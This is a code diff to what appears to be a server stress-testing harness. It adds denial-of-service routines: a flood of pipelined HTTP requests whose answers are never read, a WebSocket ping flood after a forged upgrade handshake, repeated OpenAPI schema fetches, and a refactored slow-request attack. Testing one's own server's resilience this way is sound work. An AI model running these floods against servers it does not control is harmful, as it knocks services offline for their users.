@@ -8,8 +8,8 @@ import asyncio
 import json
 import random
 import string
-from collections.abc import Awaitable, Callable
-from contextlib import AbstractAsyncContextManager, suppress
+from collections.abc import AsyncGenerator, Awaitable, Callable
+from contextlib import AbstractAsyncContextManager, asynccontextmanager, suppress
 from typing import Protocol
 
 import httpx
@@ -28,6 +28,15 @@ DEAR_MATERIALS = (
     "".join(f"[k{number}]\nfrom = 'X'\na = {number}\n" for number in range(600)),
 )
 LINE = "é" * 500
+SCHEMA = "/api/schema/openapi.json", "/api/schema/openapi.yaml"
+PINGING_LINES = 80
+GREETING = (
+    b"GET /live HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
+)
+PINGS = b"\x89\x80\0\0\0\0" * 341
+"""As many empty pings as are looked at together."""
+LONG_ANSWERS = b"GET /api/schema/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 100
 TURNED_AWAY = ConnectionClosed, InvalidStatus, OSError, TimeoutError
 """How a server says that this is enough."""
 ME = {"who": "me"}
@@ -85,22 +94,80 @@ async def deaf(attacker: Attacker) -> None:
     await asyncio.gather(talk(), *(watch() for _ in range(AT_ONCE)))
 
 
+@asynccontextmanager
+async def plain_line(
+    attacker: Attacker, limit: int = 1 << 16
+) -> AsyncGenerator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
+    """A connection that speaks no protocol yet, which reads so much ahead."""
+    url = attacker.http.base_url
+    reader, writer = await asyncio.open_connection(
+        url.host, url.port, local_addr=(ADDRESS, 0), limit=limit
+    )
+    try:
+        yield reader, writer
+    finally:
+        writer.close()
+
+
 async def slowly(attacker: Attacker) -> None:
     """Many connections on which a request never ends."""
-    url = attacker.http.base_url
 
     async def ask() -> None:
         while True:
             with suppress(OSError):
-                _, line = await asyncio.open_connection(url.host, url.port, local_addr=(ADDRESS, 0))
-                line.write(b"GET / HTTP/1.1\r\nX: ")
-                while not line.is_closing():
-                    line.write(b"a")
-                    await line.drain()
-                    await asyncio.sleep(0.5)
+                async with plain_line(attacker) as (_, line):
+                    line.write(b"GET / HTTP/1.1\r\nX: ")
+                    while not line.is_closing():
+                        line.write(b"a")
+                        await line.drain()
+                        await asyncio.sleep(0.5)
             await asyncio.sleep(0.1)
 
     await asyncio.gather(*(ask() for _ in range(SLOW_LINES)))
+
+
+async def deaf_over_http(attacker: Attacker) -> None:
+    """Many connections on which long answers are asked for and never read."""
+
+    async def ask() -> None:
+        while True:
+            with suppress(OSError):
+                async with plain_line(attacker, limit=1) as (_, line):
+                    while not line.is_closing():
+                        line.write(LONG_ANSWERS)
+                        await line.drain()
+                        await asyncio.sleep(0.5)
+            await asyncio.sleep(0.1)
+
+    await asyncio.gather(*(ask() for _ in range(SLOW_LINES)))
+
+
+async def pings(attacker: Attacker) -> None:
+    """Many live connections that say no hello, and ping as fast as they are let."""
+
+    async def ping() -> None:
+        while True:
+            with suppress(OSError):
+                async with plain_line(attacker) as (answers, line):
+                    line.write(GREETING)
+                    await answers.read(1)
+                    while not line.is_closing():
+                        line.write(PINGS)
+                        await line.drain()
+                        await asyncio.sleep(0)
+            await asyncio.sleep(0.1)
+
+    await asyncio.gather(*(ping() for _ in range(PINGING_LINES)))
+
+
+async def schema(attacker: Attacker) -> None:
+    """The description of all that can be asked, again and again."""
+
+    async def ask(path: str) -> None:
+        while True:
+            await attacker.http.get(path)
+
+    await asyncio.gather(*(ask(path) for path in SCHEMA * (AT_ONCE // 2)))
 
 
 async def guesses(attacker: Attacker) -> None:
@@ -141,7 +208,10 @@ async def floods(attacker: Attacker) -> None:
 ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
     "materials": materials,
     "deaf": deaf,
+    "deaf-over-http": deaf_over_http,
     "slowly": slowly,
+    "pings": pings,
+    "schema": schema,
     "guesses": guesses,
     "floods": floods,
 }
